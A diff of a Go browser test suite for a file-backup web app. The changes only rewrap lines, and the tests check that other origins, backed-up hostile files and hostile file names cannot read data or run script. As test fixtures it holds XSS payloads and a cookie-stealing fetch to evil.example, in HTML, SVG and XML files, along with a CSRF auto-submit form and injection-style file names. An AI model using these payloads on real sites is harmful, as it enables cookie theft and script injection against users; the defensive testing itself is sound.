@@ -112,11 +112,20 @@ func TestOtherOriginReadsNothing(t *testing.T) {
 	b.do(chromedp.Navigate("http://" + o.address + "/"))
 	for _, way := range []string{
 		`fetch(%q, {credentials: "include"}).then(r => "read " + r.status, e => "refused")`,
-		`fetch(%q, {credentials: "include", mode: "no-cors"}).then(r => r.status ? "read " + r.status : "refused", e => "refused")`,
-		`new Promise(done => { const i = new Image(); i.onload = () => done("read"); i.onerror = () => done("refused"); i.src = %q; })`,
-		`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran"); s.onerror = () => done("refused"); s.src = %q; document.head.append(s); })`,
-		`new Promise(done => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentDocument && f.contentDocument.body.innerText.includes("Backed") ? "read" : "refused"); } catch (e) { done("refused"); } }; f.src = %q; document.body.append(f); })`,
-		`new Promise(done => { const w = window.open(%q); setTimeout(() => { try { done(w.document.body.innerText ? "read" : "refused"); } catch (e) { done("refused"); } }, 300); })`,
+		`fetch(%q, {credentials: "include", mode: "no-cors"})
+			.then(r => r.status ? "read " + r.status : "refused", e => "refused")`,
+		`new Promise(done => { const i = new Image(); i.onload = () => done("read"); i.onerror = () => done("refused");
+			i.src = %q; })`,
+		`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran");
+			s.onerror = () => done("refused"); s.src = %q; document.head.append(s); })`,
+		`new Promise(done => { const f = document.createElement("iframe");
+			f.onload = () => {
+				try { done(f.contentDocument && f.contentDocument.body.innerText.includes("Backed") ? "read" : "refused"); }
+				catch (e) { done("refused"); } };
+			f.src = %q; document.body.append(f); })`,
+		`new Promise(done => { const w = window.open(%q);
+			setTimeout(() => { try { done(w.document.body.innerText ? "read" : "refused"); }
+				catch (e) { done("refused"); } }, 300); })`,
 	} {
 		for _, at := range []string{"/", "/api/list", "/raw/latest/docs/new.txt", "/static/x/app.js"} {
 			if got := eval[string](b, fmt.Sprintf(way, b.base+at)); got != "refused" {
@@ -124,7 +133,9 @@ func TestOtherOriginReadsNothing(t *testing.T) {
 			}
 		}
 	}
-	got := eval[string](b, fmt.Sprintf(`fetch(%q, {method: "POST", credentials: "include", mode: "no-cors", body: new URLSearchParams("to=dark")}).then(r => "sent", e => "refused")`, b.base+"/theme"))
+	got := eval[string](b,
+		fmt.Sprintf(`fetch(%q, {method: "POST", credentials: "include", mode: "no-cors",
+			body: new URLSearchParams("to=dark")}).then(r => "sent", e => "refused")`, b.base+"/theme"))
 	b.visit("/")
 	if theme := eval[string](b, `document.documentElement.dataset.theme ?? ""`); theme != "" {
 		t.Errorf("another origin changed the theme: %s, %q", got, theme)
@@ -141,7 +152,8 @@ func TestReboundNameReadsNothing(t *testing.T) {
 	rebound := "http://rebound.example:" + u.Port()
 	b.do(chromedp.Navigate(rebound + "/"))
 	for _, at := range []string{"/", u.Path + "/", u.Path + "/api/list", "/hello/x"} {
-		got := eval[string](b, fmt.Sprintf(`fetch(%q, {credentials: "include"}).then(async r => r.status + " " + await r.text())`, at))
+		got := eval[string](b,
+			fmt.Sprintf(`fetch(%q, {credentials: "include"}).then(async r => r.status + " " + await r.text())`, at))
 		if !strings.HasPrefix(got, "421 misdirected") {
 			t.Errorf("%s: %s", at, got)
 		}
@@ -156,17 +168,22 @@ func TestReboundNameReadsNothing(t *testing.T) {
 func hostilePlace(t *testing.T) *place {
 	p := newPlace(t)
 	const run = `document.title="RAN";localStorage.ran=1;fetch("http://evil.example/"+document.cookie)`
-	p.write("evil.html", `<!doctype html><script>`+run+`</script><img src=x onerror='`+run+`'><script src="evil.js"></script>`+
-		`<meta http-equiv="refresh" content="0;url=http://evil.example/"><form action="/theme" method=post><input name=to value=dark></form><script>document.forms[0].submit()</script>`)
+	p.write("evil.html",
+		`<!doctype html><script>`+run+`</script><img src=x onerror='`+run+`'><script src="evil.js"></script>`+
+			`<meta http-equiv="refresh" content="0;url=http://evil.example/">`+
+			`<form action="/theme" method=post><input name=to value=dark></form><script>document.forms[0].submit()</script>`)
 	p.write("evil.js", run)
 	p.write("evil.mjs", "export default 1;"+run)
 	p.write("evil.css", "body{display:none}")
-	p.write("evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload='`+run+`'><script>`+run+`</script><rect width="90" height="60"/></svg>`)
+	p.write("evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload='`+run+`'><script>`+run+
+		`</script><rect width="90" height="60"/></svg>`)
 	p.write("evil.xml", `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>`+run+`</h:script></x>`)
 	p.write("evil.txt", `<script>`+run+`</script>`)
 	p.write("evil.png", `<script>`+run+`</script>`)
-	for _, n := range []string{"<img src=x onerror=" + strings.ReplaceAll(run[:20], "/", "_") + ">", `"><script>document.title="RAN"<`, "javascript:document.title='RAN'",
-		`' onfocus='document.title="RAN"' autofocus='`, "{{.}}", "\u202egnp.exe", "new\nline", "bad\xff", "</title><script>document.title='RAN'<"} {
+	for _, n := range []string{"<img src=x onerror=" + strings.ReplaceAll(run[:20], "/", "_") + ">",
+		`"><script>document.title="RAN"<`, "javascript:document.title='RAN'",
+		`' onfocus='document.title="RAN"' autofocus='`, "{{.}}", "\u202egnp.exe", "new\nline", "bad\xff",
+		"</title><script>document.title='RAN'<"} {
 		p.write("names/"+strings.ReplaceAll(n, "/", "_"), n)
 	}
 	p.backup()
@@ -194,9 +211,12 @@ func TestBackedUpPageRunsNothing(t *testing.T) {
 			t.Errorf("the page of %s is called %q", name, title)
 		}
 		for _, way := range []string{
-			`new Promise(done => { const f = document.createElement("iframe"); f.onload = f.onerror = () => done(0); f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
-			`new Promise(done => { const f = document.createElement("object"); f.onload = f.onerror = () => done(0); f.data = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
-			`new Promise(done => { const f = document.createElement("embed"); f.onload = f.onerror = () => done(0); f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
+			`new Promise(done => { const f = document.createElement("iframe"); f.onload = f.onerror = () => done(0);
+				f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
+			`new Promise(done => { const f = document.createElement("object"); f.onload = f.onerror = () => done(0);
+				f.data = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
+			`new Promise(done => { const f = document.createElement("embed"); f.onload = f.onerror = () => done(0);
+				f.src = %q; document.body.append(f); setTimeout(() => done(0), 300) })`,
 			`new Promise(done => { const i = new Image(); i.onload = i.onerror = () => done(0); i.src = %q })`,
 		} {
 			eval[int](b, fmt.Sprintf(way, b.base+"/raw/latest/"+name)+".catch(() => 0)") // the page itself may refuse
@@ -220,9 +240,11 @@ func TestBackedUpScriptIsNoScript(t *testing.T) {
 	for _, name := range []string{"evil.js", "evil.mjs", "evil.txt"} {
 		at := b.base + "/raw/latest/" + name
 		for _, way := range []string{
-			`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran"); s.onerror = () => done("refused"); try { s.src = %q; document.head.append(s); } catch (e) { done("refused") } })`,
+			`new Promise(done => { const s = document.createElement("script"); s.onload = () => done("ran");
+				s.onerror = () => done("refused"); try { s.src = %q; document.head.append(s); } catch (e) { done("refused") } })`,
 			`import(%q).then(() => "ran", () => "refused")`,
-			`new Promise(done => { try { const w = new Worker(%q); w.onerror = () => done("refused"); w.onmessage = () => done("ran"); setTimeout(() => done("refused"), 300) } catch (e) { done("refused") } })`,
+			`new Promise(done => { try { const w = new Worker(%q); w.onerror = () => done("refused");
+				w.onmessage = () => done("ran"); setTimeout(() => done("refused"), 300) } catch (e) { done("refused") } })`,
 			`navigator.serviceWorker.register(%q).then(() => "ran", () => "refused")`,
 		} {
 			if got := eval[string](b, fmt.Sprintf(way, at)); got != "refused" {
@@ -230,7 +252,10 @@ func TestBackedUpScriptIsNoScript(t *testing.T) {
 			}
 		}
 	}
-	got := eval[string](b, fmt.Sprintf(`new Promise(done => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => done("loaded"); l.onerror = () => done("refused"); l.href = %q; document.head.append(l) })`, b.base+"/raw/latest/evil.css"))
+	got := eval[string](b,
+		fmt.Sprintf(`new Promise(done => { const l = document.createElement("link"); l.rel = "stylesheet";
+			l.onload = () => done("loaded"); l.onerror = () => done("refused"); l.href = %q; document.head.append(l) })`,
+			b.base+"/raw/latest/evil.css"))
 	if got != "refused" {
 		t.Errorf("a style sheet: %s", got)
 	}
@@ -244,7 +269,8 @@ func TestHostileNamesRunNothing(t *testing.T) {
 	p := hostilePlace(t)
 	b := open(t, 1280, 900)
 	b.signIn(p.serve())
-	pages := []string{"/", "/snapshots", "/s/latest/names", "/s/oldest/names", "/find?q=*", "/find?q=*&deleted=1", "/find?q=%3Cscript%3E"}
+	pages := []string{"/", "/snapshots", "/s/latest/names", "/s/oldest/names", "/find?q=*", "/find?q=*&deleted=1",
+		"/find?q=%3Cscript%3E"}
 	b.visit("/s/oldest/names")
 	for _, at := range eval[[]string](b, `[...document.querySelectorAll(".files .name a")].map(a => a.href)`) {
 		pages = append(pages, strings.TrimPrefix(at, b.base))
@@ -255,7 +281,9 @@ func TestHostileNamesRunNothing(t *testing.T) {
 	for _, at := range pages {
 		b.visit(at)
 		b.until(`document.readyState === "complete" && document.querySelector("h1")`)
-		if ran := eval[bool](b, `"ran" in localStorage || document.title === "RAN" || !!document.querySelector("main img[onerror], [onfocus], main script:not([type='application/json'])")`); ran {
+		if ran := eval[bool](b,
+			`"ran" in localStorage || document.title === "RAN" ||
+				!!document.querySelector("main img[onerror], [onfocus], main script:not([type='application/json'])")`); ran {
 			t.Errorf("%s: a name ran", at)
 		}
 	}
@@ -274,7 +302,8 @@ func TestNoViolationOnAnyPage(t *testing.T) {
 	}
 	b.visit("/s/latest/docs")
 	b.until(`document.querySelector("#slider")`)
-	eval[bool](b, `(() => { const s = document.querySelector("#slider"); s.value = 0; s.dispatchEvent(new Event("input", {bubbles: true})); return true })()`)
+	eval[bool](b, `(() => { const s = document.querySelector("#slider"); s.value = 0;
+		s.dispatchEvent(new Event("input", {bubbles: true})); return true })()`)
 	b.until(`location.pathname.includes(JSON.parse(document.querySelector("#steps").textContent).names[0])`)
 	b.quiet()
 }
